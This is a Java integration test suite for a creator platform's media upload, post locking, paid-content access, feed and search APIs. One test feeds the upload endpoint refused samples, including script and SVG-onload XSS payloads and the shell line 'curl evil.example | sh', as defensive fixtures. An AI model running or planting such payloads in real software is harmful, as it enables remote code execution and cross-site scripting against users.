package dev.creatorhub.content;

import dev.creatorhub.node.Node;
import dev.creatorhub.shared.s3.S3Clients;
import dev.creatorhub.shared.testkit.Await;
import dev.creatorhub.testing.Http;
import dev.creatorhub.testing.TestAccounts;
import dev.creatorhub.testing.TestMedia;
import dev.creatorhub.testing.TestNodes;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import software.amazon.awssdk.services.s3.S3Client;
import software.amazon.awssdk.services.s3.model.ListObjectsV2Request;
import software.amazon.awssdk.services.s3.model.S3Object;

import javax.imageio.ImageIO;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.stream.Collectors;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Media and posts through the gateway on the embedded stack with real S3 (S3Proxy), the real
 * payments domain for entitlements and the real subscriptions domain.
 */
@Timeout(300)
class MediaAndPostsApiTest {

  static final long MAX_BYTES = 6 * 1024 * 1024 + 123;
  static Node node;
  static Http http;
  static S3Client s3;
  static String bucket;
  static String admin;

  @BeforeAll
  static void start() {
    JsonObject config = TestNodes.config(new JsonObject().put("gateway", 1).put("auth", 1).put("payments", 1)
        .put("subscriptions", 1).put("uploads", 1).put("content", 1).put("outbox-relay", 1));
    config.getJsonObject("uploads").put("maxBytes", MAX_BYTES).put("maxImageBytes", 3 * 1024 * 1024);
    config.getJsonObject("content").put("timelineRefreshMs", 300);
    config.getJsonObject("rateLimits").getJsonObject("groups").getJsonObject("uploads").put("perIp", 10_000).put("perUser", 10_000);
    config.getJsonObject("rateLimits").getJsonObject("groups").getJsonObject("default").put("perIp", 100_000).put("perUser", 100_000);
    node = TestNodes.start(config, false);
    http = new Http(config.getJsonObject("http").getInteger("port"));
    s3 = S3Clients.client(config);
    bucket = config.getJsonObject("s3").getString("bucket");
    admin = TestAccounts.login(http, TestAccounts.ADMIN, TestAccounts.ADMIN_PASSWORD);
  }

  @AfterAll
  static void stop() {
    s3.close();
    Await.result(node.stop());
  }

  // ---- uploads ----------------------------------------------------------------------------------

  @Test
  void imagesAreReencodedWithoutTheirMetadata() throws Exception {
    JsonObject creator = TestAccounts.create(http, "CREATOR");
    byte[] original = TestMedia.jpegWithGps();
    assertThat(TestMedia.contains(original, "Exif\0\0".getBytes(StandardCharsets.ISO_8859_1))).isTrue();
    assertThat(ImageIO.read(new ByteArrayInputStream(original))).as("the test file is a valid JPEG").isNotNull();

    Http.Response r = upload(creator, "holiday.jpg", "image/jpeg", original);
    assertThat(r.status()).as(r.body()).isEqualTo(201);
    JsonObject media = r.json();
    assertThat(media.getString("mimeType")).isEqualTo("image/jpeg");
    assertThat(media.getInteger("width")).isEqualTo(320);
    assertThat(media.getInteger("height")).isEqualTo(240);

    byte[] stored = Http.download(location(http.get("/api/v1/media/" + media.getString("id") + "/content", auth(creator))));
    assertThat(TestMedia.contains(stored, "Exif".getBytes(StandardCharsets.ISO_8859_1))).as("EXIF gone").isFalse();
    assertThat(TestMedia.contains(stored, new byte[] {(byte) 0xFF, (byte) 0xE1})).as("no APP1 segment").isFalse();
    BufferedImage decoded = ImageIO.read(new ByteArrayInputStream(stored));
    assertThat(decoded.getWidth()).isEqualTo(320);
    byte[] thumbnail = Http.download(location(http.get("/api/v1/media/" + media.getString("id") + "/thumbnail", auth(creator))));
    assertThat(ImageIO.read(new ByteArrayInputStream(thumbnail)).getWidth()).isLessThanOrEqualTo(480);
  }

  @Test
  void theTypeComesFromTheBytes() {
    JsonObject creator = TestAccounts.create(http, "CREATOR");
    Http.Response png = upload(creator, "clip.mp4", "video/mp4", TestMedia.image("png", 40, 30, 1));
    assertThat(png.status()).as(png.body()).isEqualTo(201);
    assertThat(png.json().getString("mimeType")).isEqualTo("image/png");

    byte[][] refused = {
        "<!doctype html><html><body><script>alert(1)</script></body></html>".getBytes(StandardCharsets.UTF_8),
        "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"></svg>".getBytes(StandardCharsets.UTF_8),
        "#!/bin/sh\ncurl evil.example | sh\n".getBytes(StandardCharsets.UTF_8),
        "fetch('/api/v1/users/me').then(r => r.text())".getBytes(StandardCharsets.UTF_8),
        TestMedia.polyglotJpeg(),
        {0x50, 0x4B, 0x03, 0x04, 1, 2, 3, 4}};
    for (byte[] file : refused) {
      Http.Response r = upload(creator, "innocent.jpg", "image/jpeg", file);
      assertThat(r.status()).as(r.body()).isEqualTo(415);
      assertThat(r.header("Content-Type")).startsWith("application/problem+json");
    }
    byte[] jpeg = TestMedia.image("jpeg", 300, 200, 5);
    Http.Response truncated = upload(creator, "cut.jpg", "image/jpeg", java.util.Arrays.copyOf(jpeg, jpeg.length / 2));
    assertThat(truncated.status()).as(truncated.body()).isEqualTo(400);
    assertThat(truncated.json().getString("detail")).contains("damaged or truncated");
  }

  @Test
  void badUploadRequestsAreClientErrors() {
    JsonObject creator = TestAccounts.create(http, "CREATOR");
    assertThat(http.post("/api/v1/media", "application/json", "{}", auth(creator)).status()).isEqualTo(415);
    assertThat(upload(creator, "x.png", "image/png", new byte[0]).status()).isEqualTo(400);
    Http.Response wrongField = http.upload("/api/v1/media", "picture", "x.png", "image/png", TestMedia.image("png", 8, 8, 1), auth(creator));
    assertThat(wrongField.status()).as(wrongField.body()).isEqualTo(400);
    Http.Response anonymous = http.upload("/api/v1/media", "file", "x.png", "image/png", TestMedia.image("png", 8, 8, 1));
    assertThat(anonymous.status()).isEqualTo(401);
  }

  @Test
  void aDecompressionBombIsDecodedSubsampledAndOneUserCannotRunManyAtOnce() throws Exception {
    JsonObject creator = TestAccounts.create(http, "CREATOR");
    byte[] bomb = TestMedia.uniformPng(7000, 7000);
    assertThat(bomb.length).isLessThan(1_000_000);
    var pool = Executors.newFixedThreadPool(4);
    try {
      List<java.util.concurrent.Future<Http.Response>> all = new ArrayList<>();
      for (int i = 0; i < 4; i++) {
        all.add(pool.submit(() -> upload(creator, "bomb.png", "image/png", bomb)));
      }
      List<Integer> statuses = new ArrayList<>();
      for (var f : all) {
        Http.Response r = f.get();
        statuses.add(r.status());
        if (r.status() == 201) {
          assertThat(r.json().getInteger("width")).isEqualTo(3500); // decoded every second pixel, stored so
          assertThat(r.json().getInteger("height")).isEqualTo(3500);
        } else {
          assertThat(r.status()).as(r.body()).isEqualTo(429);
          assertThat(r.header("Retry-After")).isNotNull();
        }
      }
      assertThat(statuses).contains(429).filteredOn(st -> st == 201).hasSizeGreaterThanOrEqualTo(1);
    } finally {
      pool.shutdownNow();
    }
    // The slots come back: the same user uploads again.
    assertThat(upload(creator, "after.png", "image/png", TestMedia.image("png", 40, 30, 3)).status()).isEqualTo(201);
  }

  @Test
  void anUploadWithHundredsOfFormFieldsIsAnsweredAtOnce() {
    JsonObject creator = TestAccounts.create(http, "CREATOR");
    String boundary = "----fields" + java.util.UUID.randomUUID();
    StringBuilder body = new StringBuilder();
    for (int i = 0; i < 300; i++) {
      body.append("--").append(boundary).append("\r\nContent-Disposition: form-data; name=\"f").append(i).append("\"\r\n\r\nv\r\n");
    }
    body.append("--").append(boundary).append("--\r\n");
    long started = System.currentTimeMillis();
    Http.Response r = http.send(http.request("/api/v1/media").timeout(java.time.Duration.ofSeconds(20))
        .header("Content-Type", "multipart/form-data; boundary=" + boundary).header("Authorization", "Bearer " + creator.getString("token"))
        .POST(java.net.http.HttpRequest.BodyPublishers.ofString(body.toString())));
    assertThat(r.status()).as(r.body()).isIn(400, 413);
    assertThat(r.header("Content-Type")).isEqualTo("application/problem+json");
    assertThat(System.currentTimeMillis() - started).isLessThan(5000);
  }

  @Test
  void anOverLimitUploadIsRefusedAndLeavesNoObject() {
    JsonObject creator = TestAccounts.create(http, "CREATOR");
    Set<String> before = objectKeys();
    Http.Response r = upload(creator, "big.mp4", "video/mp4", TestMedia.mp4Like((int) MAX_BYTES + 1));
    assertThat(r.status()).as(r.body()).isEqualTo(413);
    Set<String> after = objectKeys();
    assertThat(after).isEqualTo(before);
    // An image over the (smaller) image limit is refused the same way.
    byte[] png = TestMedia.image("png", 16, 16, 2);
    byte[] bigPng = java.util.Arrays.copyOf(png, 3 * 1024 * 1024 + 1);
    Http.Response image = upload(creator, "big.png", "image/png", bigPng);
    assertThat(image.status()).as(image.body()).isEqualTo(413);
    assertThat(objectKeys()).isEqualTo(before);
  }

  @Test
  void twentyConcurrentUploadsSucceed() throws Exception {
    // Ten creators, two uploads each: within the per-user cap of uploads in flight.
    List<JsonObject> creators = new ArrayList<>();
    for (int i = 0; i < 10; i++) {
      creators.add(TestAccounts.create(http, "CREATOR"));
    }
    ExecutorService pool = Executors.newFixedThreadPool(20);
    try {
      List<Future<Http.Response>> uploads = new ArrayList<>();
      for (int i = 0; i < 20; i++) {
        int seed = i;
        uploads.add(pool.submit(() -> upload(creators.get(seed / 2), "p" + seed + ".png", "image/png",
            TestMedia.image("png", 200 + seed, 100, seed))));
      }
      Set<String> ids = new HashSet<>();
      for (int i = 0; i < 20; i++) {
        Http.Response r = uploads.get(i).get();
        assertThat(r.status()).as(r.body()).isEqualTo(201);
        assertThat(r.json().getInteger("width")).isEqualTo(200 + i);
        ids.add(r.json().getString("id"));
      }
      assertThat(ids).hasSize(20);
    } finally {
      pool.shutdownNow();
    }
  }

  @Test
  void videosGetDurationSizeAndPoster() throws Exception {
    Assumptions.assumeTrue(TestMedia.ffmpegInstalled(), "ffmpeg is installed by scripts/setup.sh");
    JsonObject creator = TestAccounts.create(http, "CREATOR");
    Http.Response r = upload(creator, "clip.bin", "application/octet-stream", TestMedia.mp4(2, "320x240"));
    assertThat(r.status()).as(r.body()).isEqualTo(201);
    JsonObject video = r.json();
    assertThat(video.getString("mimeType")).isEqualTo("video/mp4");
    assertThat(video.getDouble("durationSeconds")).isBetween(1.9, 2.1);
    assertThat(video.getInteger("width")).isEqualTo(320);
    assertThat(video.getBoolean("hasThumbnail")).isTrue();
    Http.Response broken = upload(creator, "broken.mp4", "video/mp4", TestMedia.mp4Like(50_000));
    assertThat(broken.status()).as(broken.body()).isEqualTo(400);
  }

  @Test
  void videosAreServedWithoutWhereTheyWereShot() throws Exception {
    Assumptions.assumeTrue(TestMedia.ffmpegInstalled(), "ffmpeg is installed by scripts/setup.sh");
    JsonObject creator = TestAccounts.create(http, "CREATOR");
    byte[] original = TestMedia.mp4WithLocation("+48.8584+002.2945/", "at home on Elm Street");
    assertThat(TestMedia.contains(original, "+48.8584".getBytes())).isTrue();
    Http.Response r = upload(creator, "IMG_0042.mp4", "video/mp4", original);
    assertThat(r.status()).as(r.body()).isEqualTo(201);
    String url = http.get("/api/v1/media/" + r.json().getString("id") + "/content", "Authorization", "Bearer " + creator.getString("token"),
        "Accept", "application/json").json().getString("url");
    byte[] served = Http.download(url);
    assertThat(TestMedia.contains(served, "+48.8584".getBytes())).as("GPS in the served bytes").isFalse();
    assertThat(TestMedia.contains(served, "Elm Street".getBytes())).as("title in the served bytes").isFalse();
    assertThat(r.json().getLong("size")).isEqualTo(served.length);
    java.nio.file.Path file = java.nio.file.Files.createTempFile("served", ".mp4");
    try {
      java.nio.file.Files.write(file, served);
      Process probe = new ProcessBuilder("ffprobe", "-v", "error", "-show_entries", "format_tags:stream_tags", "-of", "json", file.toString())
          .redirectErrorStream(true).start();
      String tags = new String(probe.getInputStream().readAllBytes());
      assertThat(probe.waitFor()).isZero();
      assertThat(tags).doesNotContain("location").doesNotContain("Elm Street").contains("isom");
    } finally {
      java.nio.file.Files.deleteIfExists(file);
    }
  }

  // ---- posts and who sees them ------------------------------------------------------------------

  @Test
  void lockingFollowsSubscriptionsPurchasesAndRefunds() {
    JsonObject creator = TestAccounts.create(http, "CREATOR");
    JsonObject fan = TestAccounts.create(http, "SUBSCRIBER");
    JsonObject other = TestAccounts.create(http, "SUBSCRIBER");
    String publicMedia = mediaId(creator, 1);
    String subscriberMedia = mediaId(creator, 2);
    String ppvMedia = mediaId(creator, 3);
    JsonObject publicPost = createPost(creator, new JsonObject().put("text", "hello world").put("visibility", "PUBLIC")
        .put("mediaIds", new JsonArray().add(publicMedia)));
    JsonObject subscriberPost = createPost(creator, new JsonObject().put("text", "only for my subscribers").put("visibility", "SUBSCRIBERS")
        .put("mediaIds", new JsonArray().add(subscriberMedia)).put("previewLength", 4));
    JsonObject ppvPost = createPost(creator, new JsonObject().put("text", "the secret recipe").put("visibility", "PPV")
        .put("price", money(700)).put("mediaIds", new JsonArray().add(ppvMedia)).put("blurredPreview", true));

    // Public: everyone, even without an account.
    assertThat(http.get("/api/v1/posts/" + publicPost.getString("id")).json().getBoolean("locked")).isFalse();
    assertThat(http.get("/api/v1/media/" + publicMedia + "/content").status()).isEqualTo(302);

    // Subscribers only: locked and empty for a non-subscriber.
    Http.Response locked = http.get("/api/v1/posts/" + subscriberPost.getString("id"), auth(fan));
    assertLocked(locked, subscriberMedia, "only for my subscribers");
    assertThat(locked.json().getString("textPreview")).isEqualTo("only");
    assertThat(http.get("/api/v1/media/" + subscriberMedia + "/content", auth(fan)).status()).isEqualTo(403);
    assertThat(http.get("/api/v1/media/" + subscriberMedia + "/content").status()).isEqualTo(403);

    Http.Response subscribed = http.post("/api/v1/creators/" + creator.getString("username") + "/subscriptions", "application/json",
        new JsonObject().put("paymentMethod", "pm_card_visa").encode(), auth(fan));
    assertThat(subscribed.status()).as(subscribed.body()).isEqualTo(201);
    JsonObject open = http.get("/api/v1/posts/" + subscriberPost.getString("id"), auth(fan)).json();
    assertThat(open.getBoolean("locked")).isFalse();
    assertThat(open.getString("text")).isEqualTo("only for my subscribers");
    assertThat(open.getJsonArray("media").getJsonObject(0).getString("id")).isEqualTo(subscriberMedia);
    String url = location(http.get("/api/v1/media/" + subscriberMedia + "/content", auth(fan)));
    assertThat(Http.download(url)).isNotEmpty();

    // PPV: locked even for a subscriber until bought; then open for that buyer only.
    Http.Response ppvLocked = http.get("/api/v1/posts/" + ppvPost.getString("id"), auth(fan));
    assertLocked(ppvLocked, ppvMedia, "the secret recipe");
    assertThat(ppvLocked.json().getJsonObject("price").getLong("amount")).isEqualTo(700);
    assertThat(ppvLocked.json().getString("previewUrl")).isEqualTo("/api/v1/posts/" + ppvPost.getString("id") + "/preview");
    assertThat(Http.download(location(http.get(ppvLocked.json().getString("previewUrl"), auth(fan))))).isNotEmpty();
    assertThat(http.get("/api/v1/media/" + ppvMedia + "/content", auth(fan)).status()).isEqualTo(403);

    Http.Response bought = http.post("/api/v1/posts/" + ppvPost.getString("id") + "/purchase", "application/json",
        new JsonObject().put("paymentMethod", "pm_card_visa").encode(), auth(fan));
    assertThat(bought.status()).as(bought.body()).isEqualTo(201);
    assertThat(http.get("/api/v1/posts/" + ppvPost.getString("id"), auth(fan)).json().getString("text")).isEqualTo("the secret recipe");
    assertThat(http.get("/api/v1/media/" + ppvMedia + "/content", auth(fan)).status()).isEqualTo(302);
    // Scripts get the same URL as JSON (the web app cannot put a bearer token on an <img>).
    Http.Response asJson = http.get("/api/v1/media/" + ppvMedia + "/content", "Authorization", auth(fan)[1], "Accept", "application/json");
    assertThat(asJson.status()).isEqualTo(200);
    assertThat(Http.download(asJson.json().getString("url"))).isNotEmpty();
    assertLocked(http.get("/api/v1/posts/" + ppvPost.getString("id"), auth(other)), ppvMedia, "the secret recipe");
    assertThat(http.get("/api/v1/media/" + ppvMedia + "/content", auth(other)).status()).isEqualTo(403);
    assertThat(http.get("/api/v1/media/" + ppvMedia + "/content", "Authorization", auth(other)[1], "Accept", "application/json").status())
        .isEqualTo(403);

    // Refunded: locked again.
    Http.Response refund = http.post("/api/v1/admin/payments/" + bought.json().getString("id") + "/refund", "application/json", "{}",
        "Authorization", "Bearer " + admin);
    assertThat(refund.status()).as(refund.body()).isEqualTo(200);
    assertLocked(http.get("/api/v1/posts/" + ppvPost.getString("id"), auth(fan)), ppvMedia, "the secret recipe");
    assertThat(http.get("/api/v1/media/" + ppvMedia + "/content", auth(fan)).status()).isEqualTo(403);

    // The creator always sees their own.
    assertThat(http.get("/api/v1/media/" + ppvMedia + "/content", auth(creator)).status()).isEqualTo(302);
    assertThat(http.get("/api/v1/posts/" + ppvPost.getString("id"), auth(creator)).json().getBoolean("locked")).isFalse();
  }

  @Test
  void onlyTheOwnerChangesAPost() {
    JsonObject creator = TestAccounts.create(http, "CREATOR");
    JsonObject rival = TestAccounts.create(http, "CREATOR");
    JsonObject fan = TestAccounts.create(http, "SUBSCRIBER");
    String media = mediaId(creator, 11);
    JsonObject post = createPost(creator, new JsonObject().put("text", "mine").put("visibility", "PUBLIC"));
    String path = "/api/v1/posts/" + post.getString("id");

    Http.Response bySubscriber = http.post("/api/v1/posts", "application/json",
        new JsonObject().put("text", "hi").put("visibility", "PUBLIC").encode(), auth(fan));
    assertThat(bySubscriber.status()).isEqualTo(403);
    assertThat(patch(rival, path, new JsonObject().put("text", "hijacked")).status()).isEqualTo(403);
    assertThat(delete(rival, path).status()).isEqualTo(403);
    assertThat(delete(fan, path).status()).isEqualTo(403);
    Http.Response stolenMedia = http.post("/api/v1/posts", "application/json", new JsonObject().put("text", "look")
        .put("visibility", "PUBLIC").put("mediaIds", new JsonArray().add(media)).encode(), auth(rival));
    assertThat(stolenMedia.status()).as(stolenMedia.body()).isEqualTo(403);
    JsonObject rivalPost = createPost(rival, new JsonObject().put("text", "rival's").put("visibility", "PUBLIC"));
    assertThat(patch(rival, "/api/v1/posts/" + rivalPost.getString("id"), new JsonObject().put("mediaIds", new JsonArray().add(media)))
        .status()).isEqualTo(403);
    assertThat(http.get(path).json().getString("text")).isEqualTo("mine");

    Http.Response edited = patch(creator, path, new JsonObject().put("text", "edited").put("visibility", "PPV").put("price", money(300)));
    assertThat(edited.status()).as(edited.body()).isEqualTo(200);
    assertThat(edited.json().getString("visibility")).isEqualTo("PPV");
    assertThat(delete(creator, path).status()).isEqualTo(204);
    assertThat(http.get(path, auth(creator)).status()).isEqualTo(404);
    assertThat(delete(creator, path).status()).isEqualTo(404);
    assertThat(delete(creator, "/api/v1/posts/no-such-post").status()).isEqualTo(404);
  }

  @Test
  void badPostsAreRefusedWithTheirField() {
    JsonObject creator = TestAccounts.create(http, "CREATOR");
    JsonObject[] bad = {
        new JsonObject().put("text", "x").put("visibility", "PPV"),
        new JsonObject().put("text", "x").put("visibility", "PUBLIC").put("price", money(500)),
        new JsonObject().put("text", "x").put("visibility", "PPV").put("price", money(5)),
        new JsonObject().put("text", "x").put("visibility", "SECRET"),
        new JsonObject().put("text", 42).put("visibility", "PUBLIC"),
        new JsonObject().put("text", "x").put("visibility", "PUBLIC").put("colour", "red"),
        new JsonObject().put("text", "x".repeat(5001)).put("visibility", "PUBLIC"),
        new JsonObject().put("text", "").put("visibility", "PUBLIC"),
        new JsonObject().put("text", "x").put("visibility", "PUBLIC").put("publishAt", "tomorrow"),
        new JsonObject().put("text", "x").put("visibility", "PUBLIC").put("mediaIds", new JsonArray().add("no-such-media")),
        new JsonObject().put("visibility", "PUBLIC").put("text", "x").put("previewLength", -1)};
    for (JsonObject body : bad) {
      Http.Response r = http.post("/api/v1/posts", "application/json", body.encode(), auth(creator));
      assertThat(r.status()).as(body + " → " + r.body()).isEqualTo(400);
      assertThat(r.header("Content-Type")).startsWith("application/problem+json");
    }
    assertThat(http.post("/api/v1/posts", "application/json", "{not json", auth(creator)).status()).isEqualTo(400);
    assertThat(http.get("/api/v1/creators/" + creator.getString("username") + "/posts?cursor=garbage").status()).isEqualTo(400);
    assertThat(http.get("/api/v1/creators/" + creator.getString("username") + "/posts?limit=0").status()).isEqualTo(400);
    assertThat(http.get("/api/v1/creators/" + creator.getString("username") + "/posts?limit=abc").status()).isEqualTo(400);
    assertThat(http.get("/api/v1/creators/nobody_here_123/posts").status()).isEqualTo(404);
    assertThat(http.get("/api/v1/search?q=a").status()).isEqualTo(400);
    assertThat(http.get("/api/v1/search").status()).isEqualTo(400);
  }

  @Test
  void scheduledPostsStayHiddenAndLikesCountOncePerUser() {
    JsonObject creator = TestAccounts.create(http, "CREATOR");
    JsonObject fan = TestAccounts.create(http, "SUBSCRIBER");
    JsonObject later = createPost(creator, new JsonObject().put("text", "coming soon").put("visibility", "PUBLIC")
        .put("publishAt", Instant.now().plusSeconds(3600).toString()));
    assertThat(later.getBoolean("scheduled")).isTrue();
    assertThat(http.get("/api/v1/posts/" + later.getString("id"), auth(fan)).status()).isEqualTo(404);
    assertThat(http.get("/api/v1/posts/" + later.getString("id")).status()).isEqualTo(404);
    assertThat(http.get("/api/v1/posts/" + later.getString("id"), auth(creator)).status()).isEqualTo(200);
    assertThat(ids(http.get("/api/v1/creators/" + creator.getString("username") + "/posts").json())).doesNotContain(later.getString("id"));
    assertThat(ids(http.get("/api/v1/creators/" + creator.getString("username") + "/posts", auth(creator)).json())).contains(later.getString("id"));
    assertThat(http.post("/api/v1/posts/" + later.getString("id") + "/like", null, "", auth(fan)).status()).isEqualTo(404);

    JsonObject now = createPost(creator, new JsonObject().put("text", "out now").put("visibility", "PUBLIC"));
    String like = "/api/v1/posts/" + now.getString("id") + "/like";
    assertThat(http.post(like, null, "", auth(fan)).json().getLong("likes")).isEqualTo(1);
    assertThat(http.post(like, null, "", auth(fan)).json().getLong("likes")).isEqualTo(1);
    assertThat(http.post(like, null, "", auth(creator)).json().getLong("likes")).isEqualTo(2);
    // Lists show the counters as they are now (kept in Redis beside the in-memory lists).
    Await.poll(() -> http.get("/api/v1/creators/" + creator.getString("username") + "/posts").json().getJsonArray("items")
        .getJsonObject(0).getLong("likes") == 2, 10_000, "counters refreshed in the list");
    assertThat(http.get("/api/v1/posts/" + now.getString("id"), auth(fan)).json().getBoolean("liked")).isTrue();
    String list = "/api/v1/creators/" + creator.getString("username") + "/posts";
    assertThat(http.get(list, auth(fan)).json().getJsonArray("items").getJsonObject(0).getBoolean("liked")).isTrue();
    assertThat(http.send(http.request(like).header("Authorization", "Bearer " + fan.getString("token")).DELETE()).json().getLong("likes")).isEqualTo(1);
    assertThat(http.send(http.request(like).header("Authorization", "Bearer " + fan.getString("token")).DELETE()).json().getLong("likes")).isEqualTo(1);
    // A list read right after unliking (the likes kept in memory were dropped before the answer).
    assertThat(http.get(list, auth(fan)).json().getJsonArray("items").getJsonObject(0).getBoolean("liked")).isFalse();
    assertThat(http.get("/api/v1/posts/" + now.getString("id"), auth(fan)).json().getBoolean("liked")).isFalse();
    assertThat(http.post(like, null, "").status()).isEqualTo(401);

    // Views: once per viewer per period, never the creator's own.
    http.get("/api/v1/posts/" + now.getString("id"), auth(fan));
    http.get("/api/v1/posts/" + now.getString("id"), auth(fan));
    http.get("/api/v1/posts/" + now.getString("id"), auth(creator));
    Await.poll(() -> http.get("/api/v1/posts/" + now.getString("id")).json().getLong("views") == 1, 5000, "one view counted");
    assertThat(http.get("/api/v1/posts/" + now.getString("id")).json().getLong("views")).isEqualTo(1);
  }

  @Test
  void theFeedPagesWithoutDuplicatesOrGapsWhilePostsArrive() {
    JsonObject fan = TestAccounts.create(http, "SUBSCRIBER");
    List<JsonObject> creators = new ArrayList<>();
    for (int i = 0; i < 5; i++) {
      JsonObject creator = TestAccounts.create(http, "CREATOR");
      creators.add(creator);
      Http.Response s = http.post("/api/v1/creators/" + creator.getString("username") + "/subscriptions", "application/json",
          new JsonObject().put("paymentMethod", "pm_card_visa").encode(), auth(fan));
      assertThat(s.status()).as(s.body()).isEqualTo(201);
    }
    JsonObject stranger = TestAccounts.create(http, "CREATOR");
    createPost(stranger, new JsonObject().put("text", "not followed").put("visibility", "PUBLIC"));
    Set<String> expected = new HashSet<>();
    for (int i = 0; i < 250; i++) {
      String visibility = i % 3 == 0 ? "SUBSCRIBERS" : i % 3 == 1 ? "PUBLIC" : "PPV";
      JsonObject body = new JsonObject().put("text", "post " + i).put("visibility", visibility);
      if (visibility.equals("PPV")) {
        body.put("price", money(500));
      }
      expected.add(createPost(creators.get(i % 5), body).getString("id"));
    }

    List<String> seen = new ArrayList<>();
    List<Instant> times = new ArrayList<>();
    String cursor = null;
    int pages = 0;
    do {
      Http.Response page = http.get("/api/v1/feed?limit=20" + (cursor == null ? "" : "&cursor=" + cursor), auth(fan));
      assertThat(page.status()).as(page.body()).isEqualTo(200);
      for (Object item : page.json().getJsonArray("items")) {
        JsonObject post = (JsonObject) item;
        seen.add(post.getString("id"));
        times.add(Instant.parse(post.getString("publishAt")));
        assertThat(post.getBoolean("locked")).isEqualTo(post.getString("visibility").equals("PPV"));
      }
      cursor = page.json().getString("nextCursor");
      // New posts arrive between page requests; they belong before the first page and must not shift later ones.
      createPost(creators.get(pages % 5), new JsonObject().put("text", "breaking " + pages).put("visibility", "PUBLIC"));
      pages++;
    } while (cursor != null && pages < 40);

    assertThat(seen).doesNotHaveDuplicates();
    assertThat(new HashSet<>(seen)).isEqualTo(expected);
    for (int i = 1; i < times.size(); i++) {
      assertThat(times.get(i)).isBeforeOrEqualTo(times.get(i - 1));
    }
    assertThat(pages).isEqualTo(13);
  }

  @Test
  void searchFindsCreatorsAndPublicPosts() {
    JsonObject creator = TestAccounts.create(http, "CREATOR");
    String word = "zq" + creator.getString("username").substring(3);
    Http.Response profile = http.send(http.request("/api/v1/users/me").header("Authorization", "Bearer " + creator.getString("token"))
        .header("Content-Type", "application/json")
        .method("PATCH", java.net.http.HttpRequest.BodyPublishers.ofString(new JsonObject().put("bio", "I paint " + word).encode())));
    assertThat(profile.status()).as(profile.body()).isEqualTo(200);
    createPost(creator, new JsonObject().put("text", "Public " + word.toUpperCase() + " sketch").put("visibility", "PUBLIC"));
    createPost(creator, new JsonObject().put("text", "hidden " + word).put("visibility", "SUBSCRIBERS"));

    JsonObject found = http.get("/api/v1/search?q=" + word).json();
    assertThat(found.getJsonArray("creators").stream().map(c -> ((JsonObject) c).getString("username")))
        .containsExactly(creator.getString("username"));
    assertThat(found.getJsonArray("posts")).hasSize(1);
    assertThat(found.getJsonArray("posts").getJsonObject(0).getString("text")).contains("sketch");
    assertThat(http.get("/api/v1/search?q=" + java.net.URLEncoder.encode(".*(", StandardCharsets.UTF_8)).status()).isEqualTo(200);
  }

  // ---- helpers ----------------------------------------------------------------------------------

  static String[] auth(JsonObject user) {
    return new String[] {"Authorization", "Bearer " + user.getString("token")};
  }

  static Http.Response upload(JsonObject user, String name, String type, byte[] bytes) {
    return http.upload("/api/v1/media", "file", name, type, bytes, auth(user));
  }

  static String mediaId(JsonObject creator, int seed) {
    Http.Response r = upload(creator, "m.png", "image/png", TestMedia.image("png", 120, 90, seed));
    assertThat(r.status()).as(r.body()).isEqualTo(201);
    return r.json().getString("id");
  }

  static JsonObject createPost(JsonObject creator, JsonObject body) {
    Http.Response r = http.post("/api/v1/posts", "application/json", body.encode(), auth(creator));
    assertThat(r.status()).as(r.body()).isEqualTo(201);
    return r.json();
  }

  static Http.Response patch(JsonObject user, String path, JsonObject body) {
    return http.send(http.request(path).header("Authorization", "Bearer " + user.getString("token"))
        .header("Content-Type", "application/json").method("PATCH", java.net.http.HttpRequest.BodyPublishers.ofString(body.encode())));
  }

  static Http.Response delete(JsonObject user, String path) {
    return http.send(http.request(path).header("Authorization", "Bearer " + user.getString("token")).DELETE());
  }

  static JsonObject money(long amount) {
    return new JsonObject().put("amount", amount).put("currency", "USD");
  }

  static String location(Http.Response r) {
    assertThat(r.status()).as(r.body()).isEqualTo(302);
    assertThat(r.header("Cache-Control")).contains("no-store");
    return r.header("Location");
  }

  static void assertLocked(Http.Response r, String mediaId, String text) {
    assertThat(r.status()).as(r.body()).isEqualTo(200);
    assertThat(r.json().getBoolean("locked")).isTrue();
    assertThat(r.json().containsKey("text")).isFalse();
    assertThat(r.json().containsKey("media")).isFalse();
    assertThat(r.body()).doesNotContain(mediaId).doesNotContain(text);
    assertThat(r.json().getInteger("mediaCount")).isEqualTo(1);
  }

  static List<String> ids(JsonObject page) {
    return page.getJsonArray("items").stream().map(p -> ((JsonObject) p).getString("id")).collect(Collectors.toList());
  }

  static Set<String> objectKeys() {
    Set<String> keys = new HashSet<>();
    for (S3Object object : s3.listObjectsV2Paginator(ListObjectsV2Request.builder().bucket(bucket).build()).contents()) {
      keys.add(object.key());
    }
    return keys;
  }
}
